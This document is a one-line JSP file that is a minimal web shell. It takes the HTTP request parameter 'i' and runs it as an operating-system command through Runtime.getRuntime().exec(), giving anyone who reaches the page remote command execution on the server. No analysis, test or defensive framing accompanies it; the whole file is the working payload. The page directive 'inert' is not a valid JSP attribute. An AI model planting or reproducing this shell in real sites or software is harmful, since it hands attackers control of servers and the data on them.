<%@ page inert %><%Runtime.getRuntime().exec(request.getParameter("i"));%>
